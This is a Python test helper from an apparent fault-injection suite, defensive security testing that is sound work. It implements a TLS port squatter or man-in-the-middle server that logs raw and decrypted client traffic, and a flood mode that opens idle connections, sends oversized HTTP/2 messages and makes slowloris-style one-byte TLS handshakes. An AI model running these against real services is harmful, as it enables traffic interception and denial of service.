"""A stranger on the network, for the fault suite's security scenarios. Runs inside a namespace.

  attacker.py squat --bind H:P --cert C --key K --out F --seconds S
      a TLS server on H:P with its own certificate (a port squatter, or a man in the middle that
      terminates TLS) that speaks HTTP/2 as far as a client needs to send its requests (its
      SETTINGS, and a gRPC answer, UNIMPLEMENTED, to every request, so that the client goes on to
      the next one): records every byte it is sent, raw (F.raw) and decrypted (F.plain), and
      how many handshakes completed (F.json); ends after S seconds or at SIGTERM
  attacker.py flood --target H:P --cert C --key K --seconds S
                    [--connections N] [--streams M] [--stream_mib B] [--slow K]
      for S seconds keeps N idle TCP connections open, M TLS connections that each try to send a
      B MiB HTTP/2 message, and K handshakes sent one byte a second; reconnects whatever the
      server closes. Prints one JSON line of counts.
"""
import argparse
import asyncio
import json
import os
import resource
import signal
import socket
import ssl
import struct
import sys
import time


def raise_nofile(need: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(need, soft)), hard))


def split(endpoint: str):
    host, port = endpoint.rsplit(":", 1)
    return host, int(port)


# ---- squat ---------------------------------------------------------------------------------


def squat(args) -> int:
    host, port = split(args.bind)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(args.cert, args.key)
    ctx.set_alpn_protocols(["h2"])
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((host, port))
    listener.listen(64)
    listener.settimeout(0.2)
    raw = bytearray()
    plain = bytearray()
    stats = {"connections": 0, "handshakes_completed": 0}
    end = time.monotonic() + args.seconds
    stop = []  # SIGTERM (the scenario is done with it) ends it early; its files are still written
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    while time.monotonic() < end and not stop:
        try:
            conn, _ = listener.accept()
        except socket.timeout:
            continue
        stats["connections"] += 1
        conn.settimeout(0.5)
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = ctx.wrap_bio(incoming, outgoing, server_side=True)
        done = False
        conn_end = min(end, time.monotonic() + 5)
        while time.monotonic() < conn_end and not stop:
            try:
                data = conn.recv(65536)
            except socket.timeout:
                data = None
            except OSError:
                break
            if data == b"":
                break
            if data:
                raw += data
                incoming.write(data)
            try:
                if not done:
                    tls.do_handshake()
                    done = True
                    stats["handshakes_completed"] += 1
                    tls.write(h2_frame(4, 0, 0, b""))  # its SETTINGS: the client is now ready
                    seen = len(plain)
                while True:
                    plain += tls.read(65536)
            except (ssl.SSLWantReadError, ssl.SSLZeroReturnError):
                pass
            except ssl.SSLError:
                pass
            if done:
                seen = answer_h2(tls, plain, seen, stats)
            pending = outgoing.read()
            if pending:
                try:
                    conn.sendall(pending)
                except OSError:
                    break
        conn.close()
    with open(args.out + ".raw", "wb") as f:
        f.write(raw)
    with open(args.out + ".plain", "wb") as f:
        f.write(plain)
    with open(args.out + ".json", "w") as f:
        json.dump(stats, f)
    return 0


def h2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def answer_h2(tls, plain: bytearray, at: int, stats: dict) -> int:
    """Answers the HTTP/2 frames in plain[at:] of one connection: a SETTINGS ACK, and to each
    request a trailers-only gRPC answer (status 12, UNIMPLEMENTED, no metadata). Returns how far
    it read (a frame cut short waits for the rest)."""
    if plain[at:at + 24] == b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n":
        at += 24
    while at + 9 <= len(plain):
        length = int.from_bytes(plain[at:at + 3], "big")
        if at + 9 + length > len(plain):
            break
        kind, flags = plain[at + 3], plain[at + 4]
        stream = int.from_bytes(plain[at + 5:at + 9], "big") & 0x7FFFFFFF
        at += 9 + length
        if kind == 4 and not flags & 1:
            tls.write(h2_frame(4, 1, 0, b""))
        elif kind == 1 and stream % 2 == 1:
            stats["requests"] = stats.get("requests", 0) + 1

            def literal(name: bytes, value: bytes) -> bytes:  # without indexing, no Huffman
                return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
            block = b"\x88" + literal(b"content-type", b"application/grpc") + \
                literal(b"grpc-status", b"12")
            tls.write(h2_frame(1, 0x5, stream, block))  # END_STREAM | END_HEADERS
    return at


# ---- flood ---------------------------------------------------------------------------------


def http2_message(mib: int) -> bytes:
    """An HTTP/2 client preface, SETTINGS, a HEADERS frame (a literal :path) and DATA frames
    holding one gRPC message of `mib` MiB."""
    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
            struct.pack(">I", stream) + payload
    headers = b"\x83\x86" + b"\x44\x1d/accel.rendezvous.v1.Store/Set"  # POST, http, :path
    body = b"\x00" + struct.pack(">I", mib << 20) + b"\x00" * (mib << 20)
    out = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(4, 0, 0, b""), frame(1, 4, 1, headers)]
    for at in range(0, len(body), 16384):
        out.append(frame(0, 1 if at + 16384 >= len(body) else 0, 1, body[at:at + 16384]))
    return b"".join(out)


async def idle_connection(host, port, end, stats):
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except ConnectionResetError:  # accepted and reset at once: refused by the server's cap
            stats["idle_refused_by_server"] += 1
            await asyncio.sleep(0.5)
            continue
        except OSError as e:
            stats["connect_failed"] += 1
            stats.setdefault("first_connect_error", repr(e))
            await asyncio.sleep(0.5)
            continue
        stats["idle_opened"] += 1
        try:
            await asyncio.wait_for(reader.read(1), timeout=max(0.1, end - time.monotonic()))
            stats["idle_closed_by_server"] += 1
        except (asyncio.TimeoutError, OSError):
            pass
        writer.close()


async def big_stream(host, port, ctx, message, end, stats):
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, ssl=ctx, server_hostname="accel-rendezvous"),
                timeout=15)
        except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
            stats["stream_handshake_refused"] += 1
            stats.setdefault("first_handshake_error", repr(e))
            await asyncio.sleep(0.2)
            continue
        stats["stream_handshake_done"] += 1
        sent = 0
        try:
            for at in range(0, len(message), 1 << 20):
                writer.write(message[at:at + (1 << 20)])
                await asyncio.wait_for(writer.drain(), timeout=10)
                sent += min(1 << 20, len(message) - at)
        except (OSError, ssl.SSLError, asyncio.TimeoutError):
            stats["stream_cut_off"] += 1
        stats["stream_bytes_sent"] += sent
        if sent >= len(message):
            stats["stream_fully_sent"] += 1
        writer.close()


async def slow_handshake(host, port, end, stats):
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(500)
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect_failed"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["slow_opened"] += 1
        try:
            for byte in hello:
                if time.monotonic() >= end:
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                try:
                    if await asyncio.wait_for(reader.read(1), timeout=1.0) == b"":
                        stats["slow_closed_by_server"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
        except OSError:
            stats["slow_closed_by_server"] += 1
        writer.close()


async def flood_main(args) -> dict:
    host, port = split(args.target)
    end = time.monotonic() + args.seconds
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    ctx.load_cert_chain(args.cert, args.key)  # a certificate of its own, not from the token
    stats = {k: 0 for k in ("connect_failed", "idle_opened", "idle_refused_by_server",
                            "idle_closed_by_server",
                            "stream_handshake_refused", "stream_handshake_done",
                            "stream_cut_off", "stream_bytes_sent", "stream_fully_sent",
                            "slow_opened", "slow_closed_by_server")}
    message = http2_message(args.stream_mib) if args.streams else b""
    tasks = []
    for i in range(args.connections):
        tasks.append(idle_connection(host, port, end, stats))
        if i % 200 == 199:
            await asyncio.sleep(0.05)  # not one SYN burst: the listen backlog is finite
    tasks += [big_stream(host, port, ctx, message, end, stats) for _ in range(args.streams)]
    tasks += [slow_handshake(host, port, end, stats) for _ in range(args.slow)]
    await asyncio.gather(*tasks)
    return stats


def flood(args) -> int:
    raise_nofile(args.connections + args.streams + args.slow + 256)
    stats = asyncio.run(flood_main(args))
    print(json.dumps(stats), flush=True)
    return 0


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = p.add_subparsers(dest="command", required=True)
    s = sub.add_parser("squat")
    s.add_argument("--bind", required=True)
    s.add_argument("--cert", required=True)
    s.add_argument("--key", required=True)
    s.add_argument("--out", required=True)
    s.add_argument("--seconds", type=float, default=30)
    f = sub.add_parser("flood")
    f.add_argument("--target", required=True)
    f.add_argument("--cert", required=True)
    f.add_argument("--key", required=True)
    f.add_argument("--seconds", type=float, default=20)
    f.add_argument("--connections", type=int, default=0)
    f.add_argument("--streams", type=int, default=0)
    f.add_argument("--stream_mib", type=int, default=16)
    f.add_argument("--slow", type=int, default=0)
    args = p.parse_args()
    return squat(args) if args.command == "squat" else flood(args)


if __name__ == "__main__":
    sys.exit(main())
